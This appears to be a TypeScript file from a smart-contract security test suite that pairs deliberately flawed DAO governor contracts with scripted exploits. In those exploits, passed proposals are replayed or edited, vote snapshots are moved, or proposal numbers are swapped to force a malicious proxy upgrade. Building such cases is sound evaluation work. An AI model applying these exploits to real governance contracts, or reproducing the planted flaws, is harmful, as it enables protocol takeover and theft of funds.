/** Governors whose proposals are executed again, change while they are voted on, or are not those that were voted on. */
import { type Hex, hexToBytes, toHex } from 'viem'
import type { PrivateKeyAccount } from 'viem/accounts'
import type { Attack } from '../attack.ts'
import { type Case, type Twin, WEAK } from '../case.ts'
import { type Built, LOGIC_SLOT, system } from '../chain.ts'
import { upgradeCall } from '../safes.ts'
import { LESS_THAN_HALF, proposal, TIMES, tokenFor, voted } from './lists.ts'
import { controlledBy, part } from './lying-getters.ts'

type Draft = Omit<Case, 'truth' | 'cause'>

const PROPOSE = 'propose(address,bytes)'
const VOTE = 'vote(bytes32,bool)'
const EXECUTE = 'execute(address,bytes)'
const MOST = 6n * 10n ** 23n

const byMost = (name: string): Case['build'] => voted(name, tokenFor('CheckpointToken', MOST))

/** The holder of most votes upgrades and takes it back; then any account repeats the upgrade. */
const repeated =
  (gasPrice?: bigint, before?: (attack: Attack, governor: Hex, id: Hex) => Promise<void>): Case['exploit'] =>
  async (attack, built) => {
    const [governor, target] = [part(built, 'controller'), part(built, 'admin')]
    const holder = { as: attack.hidden(0) }
    const logic: Hex = `0x${(await attack.chain.storage(built.address, LOGIC_SLOT)).slice(-40)}`
    const [upgrade, back] = [attack.code, logic].map((code) => upgradeCall(built.address, code)) as [Hex, Hex]
    for (const data of [upgrade, back]) {
      await attack.send(governor, PROPOSE, [target, data], holder)
      await attack.send(governor, VOTE, [proposal(target, data), true], holder)
    }
    await attack.wait(700_000)
    const price = gasPrice === undefined ? {} : { gasPrice }
    for (const data of [upgrade, back]) await attack.send(governor, EXECUTE, [target, data], { ...holder, ...price })
    await before?.(attack, governor, proposal(target, upgrade))
    await attack.send(governor, EXECUTE, [target, upgrade], price)
  }

/** A tenth of the votes counts again for further delegates: the governor counts as of a later block. */
const movedStart: Case['exploit'] = async (attack, built) => {
  const [governor, target, token] = [part(built, 'controller'), part(built, 'admin'), part(built, 'token')]
  const data = upgradeCall(built.address, attack.code)
  const id = proposal(target, data)
  await attack.send(governor, PROPOSE, [target, data])
  for (let n = 0; n < TIMES; n += 1) {
    const voter: PrivateKeyAccount = attack.newAccount()
    await attack.send(token, 'delegate(address)', [voter.address])
    await attack.mine(2)
    await attack.send(governor, 'move(bytes32)', [id])
    await attack.send(governor, VOTE, [id, true], { as: voter })
  }
  await attack.wait(700_000)
  await attack.send(governor, EXECUTE, [target, data])
}

/** A council has voted for a proposal without a risk, by its number. */
const passedByNumber =
  (name: string, targetOf: (built: Built) => Hex, dataOf: (built: Built) => Hex = () => '0x'): Case['build'] =>
  async (chain) => {
    const council = await chain.council()
    const token = await chain.deploy('CheckpointToken', council)
    const governor = await chain.deploy(name, token)
    const built = await controlledBy(chain, governor, { token })
    await chain.send(token, 'delegate(address)', [council], council)
    await chain.send(governor, PROPOSE, [targetOf(built), dataOf(built)])
    await chain.send(governor, 'vote(uint256,bool)', [1n, true], council)
    return built
  }
/** Proposes the upgrade without any vote for it, and executes this. */
const executeSecond =
  (...numbers: readonly bigint[]): Case['exploit'] =>
  async (attack, built) => {
    const governor = part(built, 'controller')
    const data = upgradeCall(built.address, attack.code)
    await attack.send(governor, PROPOSE, [part(built, 'admin'), data])
    await attack.wait(700_000)
    await attack.send(governor, 'execute(uint256,uint256)', numbers)
  }

const drafts: readonly Draft[] = [
  {
    name: 'a proposal that has passed can be executed again',
    by: 'anyone',
    build: byMost('RepeatingBallots'),
    exploit: repeated(),
  },
  {
    name: 'a proposal is not marked as executed at one price of gas',
    by: 'anyone',
    build: byMost('SometimesMarkedBallots'),
    exploit: repeated(7n),
  },
  {
    name: 'any caller removes the mark of a proposal that was executed',
    by: 'anyone',
    build: byMost('ReopeningBallots'),
    exploit: repeated(undefined, (attack, governor, id) => attack.send(governor, 'reopen(bytes32)', [id])),
  },
  {
    name: 'a proposal that has passed can be executed again by a contract that does not wait',
    by: 'anyone',
    build: async (chain) => {
      const lock = await chain.deploy('QuickLock')
      const token = await tokenFor('CheckpointToken', MOST)(chain)
      const governor = await chain.deploy('RepeatingLockBallots', token, lock)
      await chain.send(lock, 'start(address)', [governor])
      const built = await controlledBy(chain, lock, { token })
      return system(built.address, { ...built.parts, controller: governor })
    },
    exploit: repeated(),
  },
  {
    name: 'any caller moves the time as of which votes count',
    by: 'one key',
    build: voted('MovedStartBallots', tokenFor()),
    exploit: movedStart,
  },
  {
    name: 'any caller moves the time as of which votes count until the proposal is executed',
    by: 'one key',
    build: voted('ProposedAgainBallots', tokenFor()),
    exploit: movedStart,
  },
  {
    name: 'any caller ends a vote',
    by: 'one key',
    build: voted('EndedBallots', tokenFor('CheckpointToken', LESS_THAN_HALF)),
    exploit: async (attack, built) => {
      const [governor, target] = [part(built, 'controller'), part(built, 'admin')]
      const data = upgradeCall(built.address, attack.code)
      await attack.send(governor, PROPOSE, [target, data])
      await attack.send(governor, VOTE, [proposal(target, data), true])
      await attack.send(governor, 'end(bytes32)', [proposal(target, data)])
      await attack.send(governor, EXECUTE, [target, data])
    },
  },
  {
    name: 'the votes for one proposal let every caller execute another one',
    by: 'anyone',
    build: passedByNumber('SwappedBallots', (built) => part(built, 'controller')),
    exploit: executeSecond(2n, 1n),
  },
  {
    name: 'a proposal that has passed is executed with the data of another one',
    by: 'anyone',
    build: passedByNumber('SwappedDataBallots', (built) => part(built, 'admin')),
    exploit: executeSecond(1n, 2n),
  },
  {
    name: 'any caller changes the account that a proposal calls',
    by: 'anyone',
    build: async (chain) => {
      const code = await chain.deploy('Taken')
      const governor = (built: Built): Hex => part(built, 'controller')
      const dataOf = ({ address }: Built): Hex => upgradeCall(address, code)
      return passedByNumber('EditedTargetBallots', governor, dataOf)(chain)
    },
    exploit: async (attack, built) => {
      const governor = part(built, 'controller')
      await attack.send(governor, 'edit(uint256,address)', [1n, part(built, 'admin')])
      await attack.wait(700_000)
      await attack.send(governor, 'execute(uint256)', [1n])
    },
  },
  {
    name: 'any caller changes what a proposal calls its target with',
    by: 'anyone',
    build: passedByNumber('EditedDataBallots', (built) => part(built, 'admin')),
    exploit: async (attack, built) => {
      const governor = part(built, 'controller')
      await attack.send(governor, 'edit(uint256,bytes)', [1n, upgradeCall(built.address, attack.code)])
      await attack.wait(700_000)
      await attack.send(governor, 'execute(uint256)', [1n])
    },
  },
  {
    name: 'any caller changes bytes of what a proposal calls its target with',
    by: 'anyone',
    build: passedByNumber(
      'PatchedDataBallots',
      (built) => part(built, 'admin'),
      (built) => upgradeCall(built.address, built.address),
    ),
    exploit: async (attack, built) => {
      const governor = part(built, 'controller')
      const [before, after] = [built.address, attack.code].map((code) => hexToBytes(upgradeCall(built.address, code)))
      for (const [at, byte] of (after ?? []).entries())
        if (byte !== before?.[at])
          await attack.send(governor, 'patch(uint256,uint256,bytes1)', [1n, at, toHex(byte, { size: 1 })])
      await attack.wait(700_000)
      await attack.send(governor, 'execute(uint256)', [1n])
    },
  },
  {
    name: 'a proposal that has passed lets every caller call any contract, from lists in memory',
    by: 'anyone',
    build: passedByNumber('GivenCallsBallots', (built) => part(built, 'controller')),
    exploit: async (attack, built) => {
      await attack.wait(700_000)
      const calls = [[part(built, 'admin')], [upgradeCall(built.address, attack.code)]]
      await attack.send(part(built, 'controller'), 'execute(uint256,address[],bytes[])', [1n, ...calls])
    },
  },
  {
    name: 'a proposal that has passed calls its target with data of the caller, from memory',
    by: 'anyone',
    build: passedByNumber('GivenDataBallots', (built) => part(built, 'admin')),
    exploit: async (attack, built) => {
      await attack.wait(700_000)
      const data = upgradeCall(built.address, attack.code)
      await attack.send(part(built, 'controller'), 'execute(uint256,bytes)', [1n, data])
    },
  },
  {
    name: 'one of two numbers that the caller gives is of a proposal that has passed',
    by: 'anyone',
    build: async (chain) => {
      const council = await chain.council()
      const token = await chain.deploy('CheckpointToken', council)
      const governor = await chain.deploy('ChosenNumberBallots', token)
      const built = await controlledBy(chain, governor, { token })
      await chain.send(token, 'delegate(address)', [council], council)
      await chain.send(governor, PROPOSE, [governor, '0x'])
      await chain.send(governor, VOTE, [proposal(governor, '0x'), true], council)
      return built
    },
    exploit: async (attack, built) => {
      await attack.wait(700_000)
      const governor = part(built, 'controller')
      const id = proposal(governor, '0x')
      const call = [part(built, 'admin'), upgradeCall(built.address, attack.code)]
      await attack.send(governor, 'run(bytes32,bytes32,bool,address,bytes)', [id, id, true, ...call])
    },
  },
]

export const proposals: readonly Case[] = drafts.map((draft) => ({ truth: WEAK, cause: 'lying getter', ...draft }))

export const proposalTwins: readonly Twin[] = [
  {
    name: 'a vote on proposals that are stored by their numbers',
    cause: 'lying getter',
    twinOf: 'the votes for one proposal let every caller execute another one',
    deserves: 'multisig',
    build: passedByNumber('StoredBallots', (built) => part(built, 'controller')),
  },
]
